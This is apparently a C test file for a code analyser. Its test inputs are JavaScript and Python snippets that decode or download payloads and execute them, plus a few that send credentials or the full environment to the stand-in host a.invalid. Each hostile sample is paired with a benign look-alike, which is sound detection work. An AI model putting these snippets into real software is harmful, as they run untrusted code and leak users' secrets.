/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_written_test.c - text that becomes code on the way through a file, an option or a
 * package's data.
 */
#include "behavior_case.h"

static const struct behavior_case script[] = {
    { "const fs = require('fs'), os = require('os'), path = require('path');\n"
      "const p = path.join(os.tmpdir(), 'x.js');\n"
      "fs.writeFileSync(p, Buffer.from(data, 'base64'));\nrequire(p);",
      "flow decode eval require\ncapability decode-run require", NULL },
    { "const fs = require('fs');\nexports.f = async (u, file) => {\n"
      "fs.writeFileSync(file, await (await fetch(u)).text());\nreturn import(file); };",
      "flow network eval import", NULL },
    { "const fs = require('fs');\nexports.f = async (u) => {\n"
      "(await fetch(u)).body.pipe(fs.createWriteStream(__dirname + '/job.js'));\n"
      "require('child_process').fork(__dirname + '/job.js'); };",
      "flow network eval child_process.fork", NULL },
    { "const fs = require('fs'), { spawn } = require('child_process');\n"
      "exports.run = () => spawn(process.execPath, [exports.p]);\n"
      "exports.put = () => fs.writeFileSync(exports.p, atob(text));",
      "flow decode eval child_process.spawn\ncapability decode-run", NULL },
    { "const fs = require('fs');\nconst d = fs.openSync('/var/cache/w.js', 'w');\n"
      "fs.writeSync(d, atob(text));\nrequire('/var/cache/w.js');",
      "flow decode eval require", NULL },
    { "const { Worker } = require('worker_threads'), fs = require('fs');\n"
      "fs.writeFileSync('/var/cache/w.js', require('zlib').gunzipSync(z));\n"
      "new Worker('/var/cache/w.js');",
      "flow decode eval Worker", NULL },
    { "const t = Buffer.from(x, 'base64').toString();\n"
      "require('child_process').spawn(process.execPath, ['-e', t]);",
      "flow decode eval child_process.spawn\ncapability decode-run", NULL },
    { "require('child_process').execSync(atob(x));",
      "flow decode eval child_process.execSync\ncapability decode-run", NULL },
    { "Object.defineProperty(C.prototype, 'credentials', { set(v) {\n"
      "fetch('https://a.invalid', { body: JSON.stringify(v) }); } });",
      "flow credentials network fetch call", NULL },
    /* and what looks like them */
    { "const fs = require('fs');\nexports.f = async (u, dir) => {\n"
      "fs.writeFileSync(dir + '/data.json', await (await fetch(u)).text());\n"
      "return require(dir + '/data.json'); };",
      NULL, "eval\ndecode-run" },
    { "const fs = require('fs');\nexports.put = async (u, file) =>"
      " fs.writeFileSync(file, await (await fetch(u)).text());\n"
      "exports.load = (file) => require(file);",
      NULL, "eval\ndecode-run" },
    { "const fs = require('fs');\nexports.f = async (u, tool) => {\n"
      "fs.writeFileSync('/var/cache/in.bin', await (await fetch(u)).text());\n"
      "require('child_process').spawn(tool, ['/var/cache/in.bin']); };",
      NULL, "eval\ndecode-run" },
    { "require('child_process').execSync('echo ' + atob(x));", NULL, "eval\ndecode-run" },
    { "Object.defineProperty(C.prototype, 'credentials', { set(v) { this.c = v; } });\n"
      "Object.defineProperty(C.prototype, 'body', { set(v) {"
      " fetch('https://a.invalid', { body: v }); } });",
      NULL, "flow credentials network" },
};

static const struct behavior_case python[] = {
    { "import base64, importlib.util, tempfile, os\n"
      "p = os.path.join(tempfile.gettempdir(), 'x.py')\n"
      "with open(p, 'w') as f:\n    f.write(base64.b64decode(DATA).decode())\n"
      "importlib.util.spec_from_file_location('x', p)\n",
      "flow decode eval spec_from_file_location\ncapability decode-run", NULL },
    { "import urllib.request, runpy\ndef f():\n"
      "    t = urllib.request.urlopen('https://a.invalid/').read()\n"
      "    open('/var/lib/a.py', 'wb').write(t)\n    runpy.run_path('/var/lib/a.py')\n",
      "flow network eval runpy.run_path", NULL },
    { "import base64, tempfile, subprocess, sys\ndef f():\n"
      "    with tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as h:\n"
      "        h.write(base64.b64decode(X).decode())\n"
      "    subprocess.run([sys.executable, h.name])\n",
      "flow decode eval subprocess.run\ncapability decode-run", NULL },
    { "import os, tempfile, zlib\nfd, p = tempfile.mkstemp()\nos.write(fd, zlib.decompress(Z))\n"
      "exec(open(p).read())\n",
      "flow decode eval exec\ncapability decode-run", NULL },
    { "import pathlib, sys, urllib.request\nd = pathlib.Path('/var/lib/mods')\n"
      "(d / 'extra.py').write_bytes(urllib.request.urlopen('https://a.invalid/').read())\n"
      "sys.path.insert(0, str(d))\nimport extra\n",
      "flow network eval extra", NULL },
    { "import urllib.request, importlib\nurllib.request.urlretrieve(U, '/var/lib/extra.py')\n"
      "importlib.import_module('extra')\n",
      "flow network eval", NULL },
    { "import subprocess, sys, base64\nsubprocess.run([sys.executable, '-c', "
      "base64.b64decode(X)])\n",
      "flow decode eval subprocess.run\ncapability decode-run", NULL },
    { "import pickle, os\npickle.load(open(os.path.join(os.path.dirname(__file__), 'a.dat'), "
      "'rb'))\n",
      "flow file eval pickle.load", "data-file" },
    { "import marshal, pkgutil\nmarshal.loads(pkgutil.get_data(__name__, 'a.bin'))\n",
      "flow data-file eval marshal.loads", NULL },
    { "import pkgutil\nexec(pkgutil.get_data(__name__, 'a.txt'))\n", "flow data-file eval exec",
      NULL },
    /* and what looks like them */
    { "import urllib.request, subprocess\nurllib.request.urlretrieve(U, '/var/lib/in.csv')\n"
      "subprocess.run(['wc', '-l', '/var/lib/in.csv'])\n",
      NULL, "eval\ndecode-run" },
    { "import pickle\ndef load(path):\n    with open(path, 'rb') as f:\n        return "
      "pickle.load(f)\n",
      "capability dynamic-code", "flow" },
    { "import pkgutil, json\nX = json.loads(pkgutil.get_data(__name__, 'a.json'))\n", NULL,
      "flow" },
    { "import os, runpy\nwith open('/var/lib/a.py', 'w') as f:\n    f.write('X = 1')\n"
      "runpy.run_path('/var/lib/a.py')\n",
      "capability dynamic-code", "flow" },
};

/* Connections that are reached or filled on another way. */
static const struct behavior_case handed[] = {
    { "import asyncio, os\nclass P(asyncio.Protocol):\n    def connection_made(self, transport):\n"
      "        transport.write(str(dict(os.environ)).encode())\n",
      "flow env-all network write", NULL },
    { "import socket, os\ns = socket.create_connection(('a.invalid', 80))\n"
      "os.write(s.fileno(), str(dict(os.environ)).encode())\n",
      "flow env-all network os.write", NULL },
    { "import smtplib, os\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
      "m.set_content(str(dict(os.environ)))\nsmtplib.SMTP('a.invalid').send_message(m)\n",
      "flow env-all network send_message", NULL },
    { "import os\nfd = os.open('/var/lib/x', os.O_WRONLY)\n"
      "os.write(fd, str(dict(os.environ)).encode())\n",
      NULL, "flow env-all network" },
};

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
}

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
    check_cases(LW_LANG_PYTHON, handed, LW_COUNT(handed));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_script),
                                        cmocka_unit_test(test_python) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
